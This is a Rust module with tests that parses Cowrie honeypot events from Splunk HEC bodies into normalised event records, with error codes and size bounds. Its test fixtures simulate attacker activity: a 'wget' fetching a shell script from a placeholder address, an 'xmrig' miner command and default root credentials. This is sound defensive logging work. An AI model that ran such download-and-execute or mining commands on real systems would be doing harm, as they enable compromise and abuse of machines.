//! Cowrie's events, as its Splunk output (`output_splunk`) sends them to an HTTP Event Collector,
//! read into honeypot events.
//!
//! A body is one HEC entry — `{"event": {…Cowrie's event…}, "sourcetype": …, "time": …}` — or
//! several written one after another (not an array; whitespace between them optional). The
//! entries are read one by one from the body (a streaming reader), at most 1,000: the 1,001st
//! ends the reading, and no tree of the whole body is ever built. Each event is read into a
//! struct: `eventid` says what happened (`cowrie.login.failed`, `cowrie.command.input`…),
//! `protocol` the service (`ssh` or `telnet`), `src_ip`/`src_port` the visitor, `dst_port` the
//! port visited. Credentials are kept as the event's; commands, downloads' URLs and hashes, client
//! versions and key exchanges as its payload. A pure function over the bytes, so it can be fuzzed.

use chrono::{DateTime, SecondsFormat};
use serde::Deserialize;
use serde_json::value::RawValue;

use super::batch::BATCH_MAX;
use super::events::{ACTIVITY_MAX, EventInput, EventKind, NAME_MAX, PAYLOAD_MAX, SERVICE_MAX};
use super::loose;
use crate::json::{self, JsonError};
use crate::validation::ValidationErrors;

/// Why a body is refused as a whole, each as an HTTP Event Collector says it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum HecError {
    /// An empty body (HEC code 5).
    NoData,
    /// Not JSON, or an entry that is not an object (HEC code 6), at the entry of this index.
    InvalidFormat { index: usize },
    /// An entry without `event` (HEC code 12).
    EventRequired { index: usize },
    /// An entry whose `event` is empty (HEC code 13).
    EventBlank { index: usize },
    /// More than [`BATCH_MAX`] entries.
    TooMany,
}

/// The events of a body, in order, each with its place among the body's entries: read into an
/// input, or the errors its reading found. Cowrie's own operational events, which have no visitor
/// (`cowrie.abuseipdb.*`, `cowrie.malwarebazaar.*`…), are read but not listed: they are taken,
/// with nothing to score or profile.
#[derive(Clone, Debug)]
pub struct HecEvents {
    pub events: Vec<(usize, Result<EventInput, ValidationErrors>)>,
    /// Entries in the body, listed or not.
    pub entries: usize,
}

/// An HEC entry; its other fields (`host`, `source`, `sourcetype`, `index`) are skipped.
#[derive(Deserialize)]
struct Entry {
    event: Option<Box<RawValue>>,
    /// Epoch seconds, a number or text: the time of an event that carries none.
    #[serde(default, deserialize_with = "loose::text")]
    time: Option<String>,
}

/// Cowrie's event, with the fields its events are known to carry; others are skipped.
#[derive(Deserialize)]
#[allow(non_snake_case)]
struct CowrieEvent {
    #[serde(default, deserialize_with = "loose::text")]
    eventid: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    src_ip: Option<String>,
    #[serde(default, deserialize_with = "loose::port")]
    src_port: Option<u16>,
    #[serde(default, deserialize_with = "loose::text")]
    dst_ip: Option<String>,
    #[serde(default, deserialize_with = "loose::port")]
    dst_port: Option<u16>,
    #[serde(default, deserialize_with = "loose::text")]
    protocol: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    timestamp: Option<String>,
    message: Option<Box<RawValue>>,
    #[serde(default, deserialize_with = "loose::text")]
    username: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    password: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    input: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    url: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    shasum: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    outfile: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    filename: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    version: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    hassh: Option<String>,
    kexAlgs: Option<Box<RawValue>>,
    #[serde(default, deserialize_with = "loose::text")]
    duration: Option<String>,
    #[serde(default, deserialize_with = "loose::text")]
    data: Option<String>,
}

/// Reads the entries of `body`, stopping at the first past [`BATCH_MAX`].
pub fn read_hec(body: &[u8]) -> Result<HecEvents, HecError> {
    let mut events = Vec::new();
    let mut index = 0;
    for entry in serde_json::Deserializer::from_slice(body).into_iter::<&RawValue>() {
        let raw = entry.map_err(|_| HecError::InvalidFormat { index })?;
        if index == BATCH_MAX {
            return Err(HecError::TooMany);
        }
        if let Some(event) = read_entry(index, raw)? {
            events.push((index, event));
        }
        index += 1;
    }
    if index == 0 {
        return Err(HecError::NoData);
    }
    Ok(HecEvents { events, entries: index })
}

/// One entry: refused as a whole when it is no entry (as HEC does), or read into an event whose
/// own bad fields are named.
fn read_entry(index: usize, raw: &RawValue) -> Result<Option<Result<EventInput, ValidationErrors>>, HecError> {
    if !raw.get().starts_with('{') {
        return Err(HecError::InvalidFormat { index });
    }
    let entry = match json::from_slice::<Entry>(raw.get().as_bytes()) {
        Ok(entry) => entry,
        Err(JsonError::Invalid(errors)) => return Ok(Some(Err(errors))),
        Err(JsonError::Malformed(_)) => return Err(HecError::InvalidFormat { index }),
    };
    let Some(event) = entry.event else {
        return Err(HecError::EventRequired { index });
    };
    let text = event.get();
    if matches!(text, "\"\"" | "null" | "{}") {
        return Err(HecError::EventBlank { index });
    }
    if !text.starts_with('{') {
        return Ok(Some(Err(ValidationErrors::single("event", "must be Cowrie's event, a JSON object"))));
    }
    let event = match json::from_slice::<CowrieEvent>(text.as_bytes()) {
        Ok(event) => event,
        Err(JsonError::Invalid(errors)) => return Ok(Some(Err(prefixed("event", errors)))),
        Err(JsonError::Malformed(_)) => return Err(HecError::InvalidFormat { index }),
    };
    Ok(into_input(event, entry.time.as_deref()))
}

fn prefixed(prefix: &str, errors: ValidationErrors) -> ValidationErrors {
    let mut all = ValidationErrors::new();
    for error in errors {
        all.add(format!("{prefix}.{}", error.field), error.message);
    }
    all
}

/// The activity an `eventid` stands for; unknown ids are still events, named by their id.
pub fn activity(eventid: &str) -> String {
    let known = match eventid {
        "cowrie.session.connect" => "connection",
        "cowrie.login.success" => "login_success",
        "cowrie.login.failed" => "login_attempt",
        "cowrie.command.input" => "command",
        "cowrie.command.failed" => "command_failed",
        "cowrie.session.file_download" => "file_download",
        "cowrie.session.file_download.failed" => "file_download_failed",
        "cowrie.session.file_upload" => "file_upload",
        "cowrie.client.version" => "client_version",
        "cowrie.client.kex" => "client_kex",
        "cowrie.session.closed" => "session_closed",
        "cowrie.direct-tcpip.request" => "tcpip_forward_request",
        "cowrie.direct-tcpip.data" => "tcpip_forward_data",
        other => {
            let name: String = other
                .strip_prefix("cowrie.")
                .unwrap_or(other)
                .chars()
                .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '_' })
                .collect();
            return loose::bounded_chars(if name.is_empty() { "event" } else { &name }, ACTIVITY_MAX);
        }
    };
    known.to_owned()
}

/// The event's input; `None` for an operational event of Cowrie's own, which has no visitor.
fn into_input(event: CowrieEvent, time: Option<&str>) -> Option<Result<EventInput, ValidationErrors>> {
    let Some(eventid) = event.eventid.filter(|id| !id.trim().is_empty()) else {
        return Some(Err(ValidationErrors::single("event.eventid", "is required")));
    };
    if event.src_ip.as_deref().is_none_or(|ip| ip.trim().is_empty()) {
        return None;
    }
    let service = match event.protocol.as_deref().map(str::trim) {
        None | Some("") => "ssh".to_owned(),
        Some(protocol) => loose::bounded_chars(&protocol.to_ascii_lowercase(), SERVICE_MAX),
    };
    let line = |name: &str, value: &Option<String>| value.as_ref().map(|value| format!("{name}: {value}"));
    let lines = |parts: Vec<Option<String>>| parts.into_iter().flatten().collect::<Vec<_>>().join("\n");
    // A forwarding request's destination is where the visitor asked to be sent, not the
    // honeypot's port: it is kept in the payload.
    let forwarded = eventid.starts_with("cowrie.direct-tcpip.");
    let target = match (&event.dst_ip, event.dst_port) {
        (Some(ip), Some(port)) => Some(format!("destination: {ip}:{port}")),
        (Some(ip), None) => Some(format!("destination: {ip}")),
        _ => None,
    };
    let payload = match eventid.as_str() {
        "cowrie.command.input" | "cowrie.command.failed" => event.input.clone().unwrap_or_default(),
        "cowrie.session.file_download" | "cowrie.session.file_download.failed" | "cowrie.session.file_upload" => {
            lines(vec![
                line("url", &event.url),
                line("filename", &event.filename),
                line("shasum", &event.shasum),
                line("outfile", &event.outfile),
            ])
        }
        "cowrie.client.version" => event.version.clone().unwrap_or_default(),
        "cowrie.client.kex" => lines(vec![
            line("hassh", &event.hassh),
            event.kexAlgs.as_ref().map(|algorithms| format!("kexAlgs: {}", algorithms.get())),
        ]),
        "cowrie.session.closed" => lines(vec![line("duration", &event.duration)]),
        _ if forwarded => lines(vec![target, line("data", &event.data)]),
        _ => match &event.message {
            Some(message) => match serde_json::from_str::<String>(message.get()) {
                Ok(text) => text,
                Err(_) => message.get().to_owned(),
            },
            None => String::new(),
        },
    };
    let timestamp = match (event.timestamp, time) {
        (Some(timestamp), _) => Some(timestamp),
        (None, Some(epoch)) => match epoch_time(epoch) {
            Some(time) => Some(time),
            None => {
                let message = "must be seconds since 1970, such as 1795550400.123";
                return Some(Err(ValidationErrors::single("time", message)));
            }
        },
        (None, None) => None,
    };
    let username = event.username.filter(|name| !name.is_empty());
    Some(Ok(EventInput {
        kind: Some(EventKind::Honeypot.as_str().to_owned()),
        timestamp,
        source_ip: event.src_ip,
        source_port: event.src_port,
        destination_port: if forwarded { None } else { event.dst_port },
        service: Some(service),
        activity: Some(activity(&eventid)),
        payload: Some(loose::bounded(&payload, PAYLOAD_MAX)),
        usernames: username.map(|name| loose::bounded_chars(&name, NAME_MAX)).into_iter().collect(),
        passwords: event.password.map(|password| loose::bounded_chars(&password, NAME_MAX)).into_iter().collect(),
        ..EventInput::default()
    }))
}

/// HEC's `time`, seconds since 1970 with an optional fraction, as RFC 3339.
fn epoch_time(text: &str) -> Option<String> {
    let seconds = text.trim().parse::<f64>().ok().filter(|seconds| seconds.is_finite() && *seconds >= 0.0)?;
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let (whole, nanos) = (seconds.trunc() as i64, ((seconds.fract() * 1e9).round() as u32).min(999_999_999));
    DateTime::from_timestamp(whole, nanos).map(|time| time.to_rfc3339_opts(SecondsFormat::Micros, true))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(event: serde_json::Value) -> String {
        serde_json::json!({"event": event, "sourcetype": "cowrie", "host": "sensor-1", "time": 1_795_550_400.5})
            .to_string()
    }

    fn base(eventid: &str) -> serde_json::Value {
        serde_json::json!({
            "eventid": eventid, "src_ip": "203.0.113.7", "src_port": 51234, "dst_ip": "10.0.0.5", "dst_port": 2222,
            "session": "a1b2c3d4", "protocol": "ssh", "sensor": "sensor-1", "timestamp": "2026-11-24T20:00:00.123456Z",
            "message": "something happened"
        })
    }

    fn with(eventid: &str, fields: serde_json::Value) -> serde_json::Value {
        let mut event = base(eventid);
        for (key, value) in fields.as_object().expect("an object") {
            event[key] = value.clone();
        }
        event
    }

    fn only(body: &str) -> EventInput {
        let mut read = read_hec(body.as_bytes()).expect("entries");
        assert_eq!((read.events.len(), read.entries), (1, 1));
        let (index, event) = read.events.remove(0);
        assert_eq!(index, 0);
        event.expect("an event")
    }

    #[test]
    fn every_kind_of_cowrie_event_is_read() {
        let login =
            only(&entry(with("cowrie.login.failed", serde_json::json!({"username": "root", "password": "123456"}))));
        assert_eq!((login.service.as_deref(), login.activity.as_deref()), (Some("ssh"), Some("login_attempt")));
        assert_eq!((login.usernames, login.passwords), (vec!["root".to_owned()], vec!["123456".to_owned()]));
        assert_eq!(
            (login.source_ip.as_deref(), login.source_port, login.destination_port),
            (Some("203.0.113.7"), Some(51234), Some(2222))
        );
        assert_eq!(login.timestamp.as_deref(), Some("2026-11-24T20:00:00.123456Z"));

        let telnet = only(&entry(with(
            "cowrie.login.success",
            serde_json::json!({"protocol": "telnet", "username": "admin", "password": ""}),
        )));
        assert_eq!((telnet.service.as_deref(), telnet.activity.as_deref()), (Some("telnet"), Some("login_success")));
        assert_eq!(telnet.passwords, [""]);

        let command =
            only(&entry(with("cowrie.command.input", serde_json::json!({"input": "wget http://198.51.100.1/x.sh"}))));
        assert_eq!(
            (command.activity.as_deref(), command.payload.as_deref()),
            (Some("command"), Some("wget http://198.51.100.1/x.sh"))
        );
        let failed = only(&entry(with("cowrie.command.failed", serde_json::json!({"input": "xmrig"}))));
        assert_eq!(failed.payload.as_deref(), Some("xmrig"));

        let download = only(&entry(with(
            "cowrie.session.file_download",
            serde_json::json!({"url": "http://198.51.100.1/x.sh", "shasum": "ab12", "outfile": "dl/ab12"}),
        )));
        assert_eq!(download.payload.as_deref(), Some("url: http://198.51.100.1/x.sh\nshasum: ab12\noutfile: dl/ab12"));
        let upload = only(&entry(with(
            "cowrie.session.file_upload",
            serde_json::json!({"filename": "x.bin", "shasum": "cd34"}),
        )));
        assert_eq!(upload.payload.as_deref(), Some("filename: x.bin\nshasum: cd34"));

        let version = only(&entry(with("cowrie.client.version", serde_json::json!({"version": "SSH-2.0-Go"}))));
        assert_eq!(
            (version.activity.as_deref(), version.payload.as_deref()),
            (Some("client_version"), Some("SSH-2.0-Go"))
        );
        let kex = only(&entry(with(
            "cowrie.client.kex",
            serde_json::json!({"hassh": "ec7378c1", "kexAlgs": ["curve25519-sha256"]}),
        )));
        assert_eq!(kex.payload.as_deref(), Some("hassh: ec7378c1\nkexAlgs: [\"curve25519-sha256\"]"));
        let closed = only(&entry(with("cowrie.session.closed", serde_json::json!({"duration": 12.5}))));
        assert_eq!(closed.payload.as_deref(), Some("duration: 12.5"));
        let connect = only(&entry(with("cowrie.session.connect", serde_json::json!({}))));
        assert_eq!(
            (connect.activity.as_deref(), connect.payload.as_deref()),
            (Some("connection"), Some("something happened"))
        );

        let forward = only(&entry(with(
            "cowrie.direct-tcpip.request",
            serde_json::json!({"dst_ip": "192.0.2.80", "dst_port": 80}),
        )));
        assert_eq!((forward.activity.as_deref(), forward.destination_port), (Some("tcpip_forward_request"), None));
        assert_eq!(forward.payload.as_deref(), Some("destination: 192.0.2.80:80"));
        let unknown = only(&entry(with("cowrie.log.closed", serde_json::json!({}))));
        assert_eq!(unknown.activity.as_deref(), Some("log_closed"));
    }

    #[test]
    fn concatenated_entries_are_read_one_by_one_and_the_envelope_time_is_a_fallback() {
        let mut event = base("cowrie.session.connect");
        event.as_object_mut().expect("object").remove("timestamp");
        let body = format!(
            "{}{}\n  {}",
            entry(event),
            entry(base("cowrie.login.failed")),
            entry(base("cowrie.session.closed"))
        );
        let read = read_hec(body.as_bytes()).expect("three");
        assert_eq!((read.events.len(), read.entries), (3, 3));
        assert_eq!(read.events[0].1.as_ref().expect("event").timestamp.as_deref(), Some("2026-11-24T20:00:00.500000Z"));
        // Cowrie's own operational events have no visitor: read, counted, not listed.
        let operational =
            r#"{"event": {"eventid": "cowrie.abuseipdb.started", "message": "AbuseIPDB plugin starting"}}"#;
        let mixed = format!("{operational}{}", entry(base("cowrie.session.connect")));
        let read = read_hec(mixed.as_bytes()).expect("two entries");
        assert_eq!((read.entries, read.events.iter().map(|(index, _)| *index).collect::<Vec<_>>()), (2, vec![1]));
    }

    #[test]
    fn bodies_that_are_no_hec_entries_are_refused_as_hec_does() {
        assert_eq!(read_hec(b"").expect_err("empty"), HecError::NoData);
        assert_eq!(read_hec(b"  \n").expect_err("blank"), HecError::NoData);
        assert_eq!(read_hec(b"{\"event\": ").expect_err("broken"), HecError::InvalidFormat { index: 0 });
        assert_eq!(read_hec(b"[{\"event\": {}}]").expect_err("array"), HecError::InvalidFormat { index: 0 });
        let second = format!("{} {{\"sourcetype\": \"cowrie\"}}", entry(base("cowrie.session.connect")));
        assert_eq!(read_hec(second.as_bytes()).expect_err("no event"), HecError::EventRequired { index: 1 });
        assert_eq!(read_hec(br#"{"event": ""}"#).expect_err("blank"), HecError::EventBlank { index: 0 });
        let full = entry(base("cowrie.session.connect")).repeat(BATCH_MAX);
        assert_eq!(read_hec(full.as_bytes()).map(|read| read.events.len()), Ok(BATCH_MAX));
        // The reading stops at the 1,001st entry: what follows it is never looked at.
        let over = format!("{}{{\"event\": {{}}}} not JSON", "{\"event\": {\"eventid\": \"x\"}}".repeat(BATCH_MAX));
        assert_eq!(read_hec(over.as_bytes()).expect_err("too many"), HecError::TooMany);
    }

    #[test]
    fn bad_fields_of_an_event_are_named_and_hostile_values_bounded() {
        let events = read_hec(
            format!(
                "{}{}{}",
                entry(with("x", serde_json::json!({"src_port": "high"}))),
                r#"{"event": "text"}"#,
                r#"{"event": {"src_ip": "1.2.3.4"}}"#
            )
            .as_bytes(),
        )
        .expect("three entries");
        let fields: Vec<Vec<String>> = events
            .events
            .iter()
            .map(|(_, event)| {
                event.as_ref().err().map(|errors| errors.iter().map(|e| e.field.clone()).collect()).unwrap_or_default()
            })
            .collect();
        assert_eq!(
            fields,
            [vec!["event.src_port".to_owned()], vec!["event".to_owned()], vec!["event.eventid".to_owned()]]
        );
        let long = only(&entry(with(
            "cowrie.command.input",
            serde_json::json!({"input": "a".repeat(100_000), "username": "u".repeat(1000), "protocol": "p".repeat(100)}),
        )));
        assert!(long.payload.as_deref().is_some_and(|payload| payload.len() <= PAYLOAD_MAX));
        assert_eq!(
            (long.usernames[0].chars().count(), long.service.as_deref().map(str::len)),
            (NAME_MAX, Some(SERVICE_MAX))
        );
        let bad_time =
            read_hec(br#"{"event": {"eventid": "cowrie.session.connect", "src_ip": "1.2.3.4"}, "time": "soon"}"#)
                .expect("one");
        assert!(bad_time.events[0].1.is_err());
        let deep = format!("{}{}", "{\"event\":".repeat(300), "}".repeat(300));
        assert!(read_hec(deep.as_bytes()).is_err());
    }
}
